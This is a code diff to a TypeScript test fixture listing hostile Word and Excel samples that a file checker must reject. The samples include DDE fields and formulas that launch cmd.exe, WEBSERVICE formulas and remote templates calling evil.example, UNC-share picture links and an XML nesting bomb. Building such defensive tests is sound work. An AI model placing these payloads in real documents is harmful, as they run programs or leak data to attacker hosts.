@@ -39,6 +39,33 @@ const parts: [string, Part, RegExp][] = [
   ['root path', part('/etc/evil.xml'), damaged],
   ['backslash', part('word\\evil.xml'), damaged],
 ]
+const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
+const field = (...runs: string[]) =>
+  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map(run).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
+const sheet = (cell: string) => `<worksheet><sheetData><row><c>${cell}</c></row></sheetData></worksheet>`
+const outside = /reads another file or program/
+const reaches = /reaches outside/
+const starts = /starts a program/
+/** What must not be in a part of these names, which say nothing of it. */
+const contents: [name: string, xml: string, why: RegExp][] = [
+  ['picture field', field(' INCLUDEPICTURE "\\\\\\\\evil\\\\a.png" '), /INCLUDEPICTURE/],
+  ['picture field in pieces', field(' INCL', 'UDE', 'PICTURE "file:///c:/a.png"'), outside],
+  ['text field', `<w:p>${field('QUOTE "x"')}${field('includetext "c:/a.docx"')}</w:p>`, /INCLUDETEXT/],
+  ['field in one', '<w:p><w:fldSimple w:instr=" IncludePicture a.png"/></w:p>', outside],
+  ['dde field', field('DDEAUTO c:\\\\cmd.exe "/k calc"'), outside],
+  ['web formula', sheet('<f>1+_xlfn.WEBSERVICE("https://evil.example")</f>'), /WEBSERVICE/],
+  ['spelt web formula', sheet('<f>WEB&#83;ERV<!-- x -->ICE(A1)</f>'), reaches],
+  ['web formula in CDATA', sheet('<x:f><![CDATA[WEBSERVICE(A1)]]></x:f>'), reaches],
+  [
+    'web formula by name',
+    '<workbook><definedNames><definedName name="a">RTD("a")</definedName></definedNames></workbook>',
+    reaches,
+  ],
+  ['dde formula', sheet(`<f>cmd|'/c calc'!A0</f>`), starts],
+  ['connections', '<connections><connection id="1"/></connections>', /\(connections\)/],
+  ['query', '<x:queryTable/>', /a query/],
+  ['other book', '<externalLink><externalBook/></externalLink>', /linked to another workbook/],
+]
 const kinds = ['docx', 'xlsx'] as const
 /** Word and Excel files that must not pass. */
 export const hostileOffice: Sample[] = kinds.flatMap((kind) => {
@@ -49,6 +76,9 @@ export const hostileOffice: Sample[] = kinds.flatMap((kind) => {
     .replace('+xml', '.macroEnabled+xml')
   return [
     ...parts.map(([name, one, why]) => of(name, officeFile(kind, { parts: [one] }), why)),
+    ...contents.map(([name, xml, why]) =>
+      of(name, officeFile(kind, { parts: [part('customXml/item1.xml', xml)] }), why),
+    ),
     of(
       'link behind a sign',
       officeFile(kind, {
@@ -64,11 +94,6 @@ export const hostileOffice: Sample[] = kinds.flatMap((kind) => {
       linked,
     ),
     of('links without an end', officeFile(kind, { links: '<Relationship '.repeat(9) }), damaged),
-    of(
-      'too many links',
-      officeFile(kind, { links: link('hyperlink', 'https://seller.example/').repeat(9000) }),
-      damaged,
-    ),
     of('macro type', officeFile(kind, { main: macroMain }), macros),
     of(
       'spelt macro type',
@@ -80,8 +105,23 @@ export const hostileOffice: Sample[] = kinds.flatMap((kind) => {
     of(
       'template by link',
       officeFile(kind, { links: link('attachedTemplate', 'https://evil.example/t.dotm') }),
-      linked,
+      /takes its template from another file/,
     ),
+    of(
+      'picture from a share',
+      officeFile(kind, { links: link('image', String.raw`\\evil\share\a.png`) }),
+      /image: \\\\evil/,
+    ),
+    of('picture from a folder', officeFile(kind, { links: link('image', 'file:///c:/a.png') }), /image: file:/),
+    of('picture from the web', officeFile(kind, { links: link('image', 'https://evil.example/a.png') }), linked),
+    of('link to a share', officeFile(kind, { links: link('hyperlink', String.raw`\\evil\share\a.doc`) }), linked),
+    of('link to a file', officeFile(kind, { links: link('hyperlink', 'file:///c:/a.doc') }), linked),
+    of(
+      'strange encoding',
+      officeFile(kind, { parts: [part('docProps/a.xml', '<?xml version="1.0" encoding="utf-7"?><a/>')] }),
+      damaged,
+    ),
+    of('deep', officeFile(kind, { parts: [part('docProps/a.xml', '<a>'.repeat(100_000))] }), damaged),
     of('object by link', officeFile(kind, { links: link('oleObject', 'file:///c:/evil.exe') }), linked),
     of('frame', officeFile(kind, { links: link('frame', 'https://evil.example') }), linked),
     of('part by link', officeFile(kind, { links: link('aFChunk', 'evil.html', 'Internal') }), linked),
